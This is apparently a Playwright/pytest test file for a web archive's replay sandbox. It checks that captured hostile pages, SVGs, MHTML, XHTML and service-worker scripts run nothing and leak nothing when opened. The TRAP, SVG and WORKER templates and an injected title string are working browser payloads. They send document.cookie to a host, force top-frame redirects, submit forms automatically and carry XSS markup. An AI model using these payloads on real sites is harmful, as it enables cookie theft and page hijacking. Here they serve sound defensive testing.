"""A hostile capture in a real browser: nothing of it runs, nothing leaves, the top frame stays."""

import base64
import os
import socket
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Lock, Thread
from typing import Any

import pytest

from strandline.model.archive import ArtifactKind, LinkMetadata
from strandline.testing.documents import RED, pdf, png, wav

pytestmark = pytest.mark.browser

#: Debian's and Ubuntu's names for it. The small shell comes last: it has no PDF viewer.
CHROMIUM = ("/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/chromium-headless-shell")
ARGUMENTS = ("--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking")
URL = "https://evil.example/page"
CANARY = "canary=do-not-tell"

#: All that a page can try to tell its maker, or to take the visitor along.
TRAP = """<!doctype html><html><head><title>x</title>
<meta http-equiv="refresh" content="0;url={trap}/refresh">
<link rel="preconnect" href="{trap}"><link rel="dns-prefetch" href="{trap}">
<link rel="prefetch" href="{trap}/prefetch"><link rel="preload" as="image" href="{trap}/preload">
<link rel="stylesheet" href="{trap}/sheet"><link rel="icon" href="{trap}/icon">
<link rel="manifest" href="{trap}/manifest">
<style>@import "{trap}/import"; body {{ background: url({trap}/background) }}
@font-face {{ font-family: f; src: url({trap}/font) }} h1 {{ font-family: f }}</style>
<script type="speculationrules">{{"prefetch": [{{"urls": ["{trap}/speculation"]}}]}}</script>
<script>
  const tell = what => {{ new Image().src = "{trap}/" + what; }};
  tell("ran?" + document.cookie);
  fetch("{trap}/fetch", {{mode: "no-cors"}}).catch(() => 0);
  navigator.sendBeacon("{trap}/beacon", document.cookie);
  try {{ new WebSocket("{trap}".replace("http", "ws") + "/socket"); }} catch (e) {{}}
  try {{ navigator.serviceWorker.register("/artifacts/1"); }} catch (e) {{}}
  try {{ window.open("{trap}/window"); }} catch (e) {{}}
  try {{ alert("owned"); }} catch (e) {{}}
  addEventListener("load", () => {{ try {{ top.location = "{trap}/top"; }} catch (e) {{}} }});
</script></head>
<body onload="tell('onload')"><h1>What people came for</h1>
<img src="{trap}/image" onerror="tell('onerror')" srcset="{trap}/srcset 2x">
<iframe src="{trap}/frame"></iframe>
<iframe srcdoc="<script>top.location='{trap}/srcdoc'</script>"></iframe>
<object data="{trap}/object"></object><embed src="{trap}/embed">
<video autoplay src="{trap}/video" poster="{trap}/poster"></video>
<svg><image href="{trap}/svg"/><script>tell("svg")</script></svg>
<form id="f" action="{trap}/form" method="post"><button>send</button></form>
<script>document.getElementById("f").submit()</script>
<a id="away" href="{trap}/away" ping="{trap}/ping">away</a>
<a id="top" href="{trap}/blank" target="_top">over</a>
<a id="js" href="javascript:location='{trap}/js'">run</a>
</body></html>"""
SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
 onload="location='{trap}/svg-onload'">
<script>new Image().src="{trap}/svg?"+document.cookie</script>
<image href="{trap}/svg-image"/><use xlink:href="{trap}/svg-use#a"/></svg>"""
MHTML = """MIME-Version: 1.0
Content-Type: multipart/related; type="text/html"; boundary="b"

--b
Content-Type: text/html
Content-Location: https://evil.example/

{page}
--b--
"""
XHTML = """<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{trap}/xsl"?>
<html xmlns="http://www.w3.org/1999/xhtml"><body><script>location="{trap}/xhtml"</script></body></html>"""
WORKER = """self.addEventListener("fetch", e => e.respondWith(fetch("{trap}/worker")))"""


class Trap:
    """A server that counts who comes: connections too, so that a mere greeting is noticed."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        self.connections = 0
        lock, trap = Lock(), self

        class Handler(BaseHTTPRequestHandler):
            """Notes the path and serves whatever page is set."""

            page = b""

            def do_GET(self) -> None:
                with lock:
                    trap.paths.append(self.path)
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.end_headers()
                self.wfile.write(self.page if self.path == "/bait" else b"caught")

            do_POST = do_GET  # noqa: N815 - the library's name

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        class Server(ThreadingHTTPServer):
            """Counts connections."""

            def get_request(self) -> tuple[socket.socket, Any]:
                with lock:
                    trap.connections += 1
                return super().get_request()

        self._server = Server(("127.0.0.1", 0), Handler)
        self._handler = Handler
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        self._thread = Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    def bait(self, page: str) -> None:
        """What `/bait` serves, with no protection at all."""
        self._handler.page = page.encode()

    def empty(self) -> None:
        """Forget who came."""
        self.paths.clear()
        self.connections = 0

    def close(self) -> None:
        """Let go of the port."""
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


@pytest.fixture
def trap() -> Iterator[Trap]:
    """An empty trap."""
    made = Trap()
    yield made
    made.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """Chromium without a window; skipped with the reason where there is none."""
    path = next((path for path in CHROMIUM if Path(path).exists()), None)
    if path is None:
        if os.environ.get("STRANDLINE_REQUIRE_BROWSER") == "1":
            pytest.fail("STRANDLINE_REQUIRE_BROWSER=1, and there is no Chromium")
        pytest.skip("no Chromium here (Debian: apt-get install chromium)")
    playwright = pytest.importorskip("playwright.sync_api")
    with playwright.sync_playwright() as driver:
        chromium = driver.chromium.launch(executable_path=path, args=list(ARGUMENTS))
        chromium.path = path
        yield chromium
        chromium.close()


class Visitor:
    """A person with a tab, a cookie, and an eye on what happens."""

    def __init__(self, browser: Any, page: Any, trap: Trap) -> None:
        self.page, self._trap = page, trap
        self.context = browser.new_context(accept_downloads=True)
        name, _, value = CANARY.partition("=")
        self.context.add_cookies([{"name": name, "value": value, "url": page.server.url}])
        self.dialogs: list[str] = []
        self.tab = self.context.new_page()
        self.tab.on("dialog", self._noted)

    def _noted(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def open(self, url: str, until: str = "networkidle") -> Any:
        """Go there and let it do what it will; a download is no page.

        The event `load` is not waited for: in one of a hundred visits to frames that load nothing,
        Chromium never gives it, though every document is there and no request is open.
        """
        try:
            answer = self.tab.goto(url, wait_until="domcontentloaded")
        except Exception as error:
            if "Download is starting" not in str(error) and "ERR_ABORTED" not in str(error):
                raise
            return None
        self.tab.wait_for_load_state(until)
        return answer

    def is_unharmed(self, url: str) -> bool:
        """Nothing ran, nobody was told, and the tab is where it was sent."""
        assert self._trap.paths == []
        assert self._trap.connections == 0
        assert self.dialogs == []
        assert self.context.service_workers == []
        assert self.context.pages == [self.tab]
        assert self.tab.url in (url, "about:blank")
        return True


@pytest.fixture
def visitor(
    browser: Any, serve: Callable[..., Any], vault: Any, trap: Trap
) -> Iterator[Callable[[], Visitor]]:
    """Somebody who looks at the archive as it is when they come."""
    made: list[Visitor] = []

    def come() -> Visitor:
        made.append(Visitor(browser, serve(vault.store, vault.blobs), trap))
        return made[-1]

    yield come
    for one in made:
        one.context.close()


def test_the_trap_springs_where_nothing_holds_it(
    visitor: Callable[[], Visitor], trap: Trap
) -> None:
    """The same page on a plain server runs, tells the cookie and takes the tab along."""
    trap.bait(TRAP.format(trap=trap.url))
    told = {f"/ran?{CANARY}", "/image", "/import", "/fetch"}
    for _ in range(5):  # the page takes the tab along, at times before all of it was asked for
        someone = visitor()
        try:
            someone.open(f"{trap.url}/bait")
        except Exception as error:  # a page that pulls the tab five ways can crash Chromium
            if "crashed" not in str(error):
                raise
        if told <= set(trap.paths):
            break
    assert told <= set(trap.paths)
    assert "/bait" not in someone.tab.url


def _hostile_files(trap: str) -> list[tuple[ArtifactKind, str, bytes, str]]:
    """Every kind of document that runs, under its own type and under types that are shown."""
    page = TRAP.format(trap=trap)
    bodies = {
        "page": (page, "text/html"),
        "svg": (SVG.format(trap=trap), "image/svg+xml"),
        "mhtml": (MHTML.format(page=page), "multipart/related"),
        "xhtml": (XHTML.format(trap=trap), "application/xhtml+xml"),
        "worker": (WORKER.format(trap=trap), "text/javascript"),
    }
    claims = ("", "image/png", "application/pdf", "text/plain")
    return [
        (ArtifactKind.SUBTITLES, f"media/{name}{number}.bin", body.encode(), claim or own)
        for name, (body, own) in bodies.items()
        for number, claim in enumerate(claims)
    ]


def test_no_file_of_a_hostile_capture_does_anything_when_opened(
    visitor: Callable[[], Visitor], vault: Any, trap: Trap
) -> None:
    """Opened by its address, each one is a download or still text; nobody hears of it."""
    article = vault.link(URL)
    vault.keep(article, *_hostile_files(trap.url))
    someone = visitor()
    kept = vault.store.artifacts(article.article_uuid)
    assert len(kept) == 20
    opened = 0
    for artifact in kept:
        url = f"{someone.page.server.url}/artifacts/{artifact.artifact_id}"
        opened += someone.open(url) is not None
        assert someone.is_unharmed(someone.tab.url)
        assert someone.tab.url.startswith((someone.page.server.url, "about:blank"))
    assert opened == 4  # the worker's script, as text


def test_no_file_can_be_made_a_script_or_a_worker_of_our_origin(
    visitor: Callable[[], Visitor], vault: Any, trap: Trap
) -> None:
    """Even somebody who could write into our page could not use an artifact as code."""
    article = vault.link(URL)
    worker = (
        ArtifactKind.RAW,
        "fetch/raw.js",
        WORKER.format(trap=trap.url).encode(),
        "text/javascript",
    )
    kept = vault.keep(article, worker)[ArtifactKind.RAW]
    someone = visitor()
    someone.open(f"{someone.page.server.url}/about")
    refused = someone.tab.evaluate(
        """async path => {
          const script = document.createElement('script');
          const loaded = new Promise(end => {
            script.onload = () => end('ran'); script.onerror = () => end('refused');
          });
          script.src = path;
          document.head.append(script);
          const worker = await navigator.serviceWorker.register(path)
            .then(() => 'ran', error => error.name);
          return [await loaded, worker];
        }""",
        f"/artifacts/{kept.artifact_id}",
    )
    assert refused[0] == "refused"
    assert refused[1] != "ran"
    assert someone.context.service_workers == []


def test_pages_about_a_hostile_capture_only_tell_of_it(
    visitor: Callable[[], Visitor], vault: Any, trap: Trap
) -> None:
    """Titles, texts, names and addresses with markup in them are words on every page."""
    said = f"</title><script>fetch('{trap.url}')</script><img src={trap.url}/x onerror=alert(1)>"
    article = vault.link(URL, article_title=said)
    vault.keep(
        article,
        (ArtifactKind.TEXT, "text/extracted.txt", said.encode(), "text/plain"),
        text=f"needle {said}",
        last_error=said,
        metadata=LinkMetadata(
            article.article_uuid,
            title=said,
            description=said,
            author=said,
            site_name=said,
            final_url=f"javascript:fetch('{trap.url}')",
        ),
    )
    someone = visitor()
    for path in (
        "/archive",
        "/search?q=needle",
        "/stats",
        f"/articles/{article.article_uuid}",
        f"/articles/{article.article_uuid}/replay",
    ):
        url = someone.page.server.url + path
        answer = someone.open(url)
        assert answer.status == 200
        assert someone.is_unharmed(url)


@pytest.mark.parametrize("query", ["", "?sent=1"])
def test_a_hostile_page_is_replayed_without_its_poison(
    visitor: Callable[[], Visitor], vault: Any, trap: Trap, query: str
) -> None:
    """What people came for is there; its scripts, its loads and its links lead nowhere."""
    page = TRAP.format(trap=trap.url)
    article = vault.link(URL)
    record = vault.warc(
        (URL, "text/html", page.encode()),
        ("https://evil.example/x.svg", "image/svg+xml", SVG.format(trap=trap.url).encode()),
    )
    vault.keep(
        article,
        (ArtifactKind.DOM, "render/dom.html", page.encode(), "text/html"),
        (ArtifactKind.WARC, "warc/page.warc.gz", record, "application/warc"),
    )
    someone = visitor()
    url = f"{someone.page.server.url}/articles/{article.article_uuid}/replay{query}"
    someone.open(url)
    frame = next(frame for frame in someone.tab.frames if frame.url.startswith(someone.page.replay))
    shown = frame.locator("h1")
    assert shown.inner_text() == "What people came for"
    for link in ("#away", "#top", "#js"):
        frame.locator(link).click(no_wait_after=True)
    someone.tab.wait_for_load_state("networkidle")
    assert someone.is_unharmed(url)
    assert shown.inner_text() == "What people came for"


def test_the_replays_own_address_is_as_safe_as_its_frame(
    visitor: Callable[[], Visitor], vault: Any, trap: Trap
) -> None:
    """Opened in a tab of its own, a page and a drawing of it do nothing either."""
    drawing = SVG.format(trap=trap.url).encode()
    article = vault.link(URL)
    page = (URL, "text/html", TRAP.format(trap=trap.url).encode())
    record = vault.warc(page, ("https://evil.example/x.svg", "image/svg+xml", drawing))
    kept = vault.keep(article, (ArtifactKind.WARC, "warc/page.warc.gz", record, "application/warc"))
    someone = visitor()
    for part in ("", "0", "1"):
        url = f"{someone.page.replay}/replay/{kept[ArtifactKind.WARC].artifact_id}/{part}"
        assert someone.open(url).status == 200
        assert someone.is_unharmed(url)


def test_without_our_rewriting_the_policy_alone_holds(
    visitor: Callable[[], Visitor], vault: Any, trap: Trap, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The second wall: the untouched page under the replay's headers runs and loads nothing.

    Only greetings are the rewriting's alone: Chromium connects to a frame's host, without asking
    for anything, before it looks at the policy that refuses the frame.
    """
    page = TRAP.format(trap=trap.url)
    article = vault.link(URL)
    kept = vault.keep(article, (ArtifactKind.DOM, "render/dom.html", page.encode(), "text/html"))
    monkeypatch.setattr("strandline.web.replay.answers.rewrite_page", lambda text, leads, **_: text)
    someone = visitor()
    url = f"{someone.page.replay}/replay/{kept[ArtifactKind.DOM].artifact_id}/"
    someone.open(url)
    assert someone.tab.locator("#away").inner_text() == "away"
    trap.connections = 0
    assert someone.is_unharmed(url)


def test_a_picture_a_text_and_a_sound_open(visitor: Callable[[], Visitor], vault: Any) -> None:
    """What is harmless is shown: the policy does not blind the browser's own viewers."""
    article = vault.link(URL)
    kept = vault.keep(
        article,
        (ArtifactKind.SCREENSHOT, "render/screenshot.png", png(20, 10), "image/png"),
        (ArtifactKind.TEXT, "text/extracted.txt", "Marée basse".encode(), "text/plain"),
        (ArtifactKind.VIDEO, "media/video.wav", wav(2), "audio/wav"),
    )
    someone = visitor()
    address = someone.page.server.url + "/artifacts/"
    someone.open(address + str(kept[ArtifactKind.SCREENSHOT].artifact_id))
    assert someone.tab.evaluate("document.images[0].naturalWidth") == 20
    someone.open(address + str(kept[ArtifactKind.TEXT].artifact_id))
    assert someone.tab.evaluate("document.body.innerText") == "Marée basse"
    # A player holds its request open: the network is never idle.
    someone.open(address + str(kept[ArtifactKind.VIDEO].artifact_id), until="load")
    while someone.tab.evaluate("document.querySelector('video').duration") != 2:
        someone.tab.wait_for_timeout(100)


def test_a_pdf_still_opens(
    browser: Any, visitor: Callable[[], Visitor], vault: Any, trap: Trap
) -> None:
    """The browser's viewer shows the page, under the same policy as everything else."""
    if "headless-shell" in browser.path:
        pytest.skip("this Chromium has no PDF viewer (Debian: apt-get install chromium)")
    article = vault.link(URL)
    kept = vault.keep(article, (ArtifactKind.PDF, "render/page.pdf", pdf(), "application/pdf"))
    someone = visitor()
    someone.open(f"{someone.page.server.url}/artifacts/{kept[ArtifactKind.PDF].artifact_id}")
    reader = someone.context.new_page()
    for _ in range(100):
        if _colour(reader, someone.tab.screenshot()) == list(RED):
            return
    pytest.fail("the page of the PDF was not painted")


def _colour(reader: Any, picture: bytes) -> list[int]:
    """Colour in the middle of a PNG, read by the browser itself."""
    found: list[int] = reader.evaluate(
        """async source => {
          const picture = new Image();
          picture.src = source;
          await picture.decode();
          const canvas = document.createElement('canvas');
          [canvas.width, canvas.height] = [picture.width, picture.height];
          const context = canvas.getContext('2d');
          context.drawImage(picture, 0, 0);
          const at = [picture.width / 2, picture.height / 2];
          return [...context.getImageData(...at, 1, 1).data].slice(0, 3);
        }""",
        "data:image/png;base64," + base64.b64encode(picture).decode(),
    )
    return found
